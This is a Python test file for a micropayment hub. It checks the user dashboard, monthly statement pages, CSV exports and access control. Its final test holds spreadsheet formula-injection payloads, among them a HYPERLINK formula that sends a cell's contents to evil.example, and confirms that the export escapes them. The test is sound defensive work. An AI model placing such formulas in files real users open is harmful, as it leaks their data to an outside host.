"""The dashboard, the monthly statement pages and their CSV downloads."""

from __future__ import annotations

import csv
import io
import re

from ledger.months import add_months
from tests.creator_scenario import build, join_as_owner_of_github_3
from tests.ledger_helpers import feed, star
from tests.web_helpers import log_in, sign_up

pytest_plugins = ["tests.hub_fixtures"]
HTML = {"Accept": "text/html"}


def text_of(page: str, element_id: str) -> str:
    match = re.search(rf'id="{element_id}">([^<]*)<', page)
    assert match, f"no #{element_id}"
    return match.group(1)


async def test_dashboard_shows_this_month_and_the_earlier_ones(hub_client, engine, config):
    s = build(engine, config)
    assert (await log_in(hub_client, "ana")).status == 303
    reply = await hub_client.get("/dashboard")
    assert reply.status == 200
    page = await reply.text()
    assert text_of(page, "funds") == "10.00 EUR"
    assert (text_of(page, "count-counts"), text_of(page, "count-pledges"),
            text_of(page, "count-retracted")) == ("1", "1", "1")
    assert text_of(page, "estimate") == "5.00 EUR"
    assert re.search(r'class="flattr pending">.*?r6.*?5\.00 EUR', page, re.S)
    assert re.search(r'class="flattr pending_pledge">.*?r7.*?0\.00 EUR', page, re.S)
    assert 'class="flattr retracted"' in page
    # Earlier months: a table row and a chart point per month, per series.
    rows = re.findall(r'<tr class="month"><td><a href="/statements/([0-9-]+)">', page)
    assert rows == [s.m2, s.m1]
    assert page.count('class="point given"') == page.count('class="point received"') == 2
    assert page.count("<polyline") == 2
    assert f'href="/statements/{s.m1}.csv"' in page
    assert re.search(rf"{s.m1}</a></td>\s*<td class=\"num\">4</td><td class=\"num\">5\.00 EUR"
                     r"</td>\s*<td class=\"num\">0\.48 EUR", page)


async def test_the_receiver_sees_revenue_per_month(hub_client, engine, config):
    s = build(engine, config)
    await log_in(hub_client, "bo")
    page = await (await hub_client.get("/dashboard")).text()
    assert text_of(page, "revenue") == "9.02 EUR"
    assert text_of(page, "received") == "0.00 EUR"
    points = re.findall(r'<circle class="point received" cx="[0-9.]+" cy="([0-9.]+)"', page)
    # 4.52 then 4.50: the second point is a little lower (SVG y grows downwards)
    assert len(points) == 2 and float(points[0]) < float(points[1])
    assert "No pledges are waiting" in page
    month = await (await hub_client.get(f"/statements/{s.m1}")).text()
    assert text_of(month, "received-total") == "4.52 EUR"
    assert month.count('<tr class="share">') == 3


async def test_a_creator_sees_the_pledges_waiting_for_them(hub_client, engine, config):
    s = build(engine, config)
    join_as_owner_of_github_3(engine, config)
    await log_in(hub_client, "cy")
    page = await (await hub_client.get("/dashboard")).text()
    assert text_of(page, "pledge-estimate") == "1.51 EUR"
    assert text_of(page, "supporters") == "1" and "</span> supporter has pledged" in page
    row = re.search(r'<tr class="waiting">(.*?)</tr>', page, re.S).group(1)
    assert re.findall(r'<td class="num">([^<]*)</td>', row) == ["1", "1", "1.51 EUR"]
    assert f"at the settlement of {s.now}" in row
    lapse = add_months(s.m1, config.pledge_months + 1)
    assert f"the oldest at the settlement of {lapse} (1 " in row
    assert "They count only in a month in which you give too" not in page


async def test_an_unfunded_creator_is_warned(hub_client, engine, config):
    build(engine, config)
    join_as_owner_of_github_3(engine, config, funds=0)
    await log_in(hub_client, "cy")
    page = await (await hub_client.get("/dashboard")).text()
    assert "They count only in a month in which you give too" in page
    assert text_of(page, "pledge-estimate") == "0.00 EUR"


async def test_a_new_member_has_an_empty_dashboard(hub_client):
    await sign_up(hub_client, "dee")
    page = await (await hub_client.get("/dashboard")).text()
    assert "No flattrs yet this month" in page and "<svg" not in page
    assert "Nothing yet: your first statement" in page


async def test_statement_page_and_csv(hub_client, engine, config):
    s = build(engine, config)
    await log_in(hub_client, "ana")
    page = await (await hub_client.get(f"/statements/{s.m1}")).text()
    assert page.count('class="flattr counted"') == 3
    assert 'href="/claim/github/3"' in page

    reply = await hub_client.get(f"/statements/{s.m1}.csv")
    assert reply.status == 200 and reply.content_type == "text/csv"
    assert reply.headers["Content-Disposition"] == (
        f'attachment; filename="flattr-ana-{s.m1}.csv"')
    rows = list(csv.DictReader(io.StringIO(await reply.text())))
    assert [(r["section"], r["content_id"], r["status"], r["share"], r["fee"], r["net"])
            for r in rows] == [
        ("given", "r1", "counted", "167", "16", "151"),
        ("given", "r2", "counted", "167", "16", "151"),
        ("given", "r3", "pledged", "0", "0", "0"),
        ("given", "r4", "counted", "166", "16", "150"),
        ("pledge", "r3", "waiting", "0", "0", "0"), ("pledge", "r9", "waiting", "0", "0", "0")]

    open_month = list(csv.DictReader(io.StringIO(
        await (await hub_client.get(f"/statements/{s.now}.csv")).text())))
    assert [(r["content_id"], r["status"], r["estimate"]) for r in open_month
            if r["section"] == "given"] == [
        ("r6", "pending", "500"), ("r7", "pending_pledge", "0"), ("r8", "retracted", "0")]


async def test_statement_urls_that_do_not_exist_are_404(hub_client, engine, config):
    s = build(engine, config)
    await log_in(hub_client, "ana")
    for path in ("/statements/2026-13", "/statements/2026-00.csv",
                 f"/statements/{add_months(s.now, 1)}", "/statements/june"):
        reply = await hub_client.get(path, headers=HTML)
        assert reply.status == 404, path
        assert "<h1>404</h1>" in await reply.text()


async def test_pages_need_a_member(hub_client, engine, config):
    s = build(engine, config)
    for path in ("/dashboard", f"/statements/{s.m1}", f"/statements/{s.m1}.csv"):
        reply = await hub_client.get(path, allow_redirects=False)
        assert reply.status == 303
        assert reply.headers["Location"].startswith("/login?next=")


async def test_statement_csv_cells_cannot_run_as_spreadsheet_formulas(hub_client, engine, config):
    s = build(engine, config)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
    feed(engine, *(star("1", content, "2", f"{s.now}-01T0{n}:00:00")
                   for n, content in enumerate(hostile)))
    await log_in(hub_client, "ana")
    rows = list(csv.DictReader(io.StringIO(
        await (await hub_client.get(f"/statements/{s.now}.csv")).text(), newline="")))
    written = [r["content_id"] for r in rows if r["content_id"].lstrip("'") in hostile]
    assert sorted(written) == sorted("'" + content for content in hostile)
    assert all(r["share"].lstrip("-").isdigit() for r in rows)  # numbers stay numbers
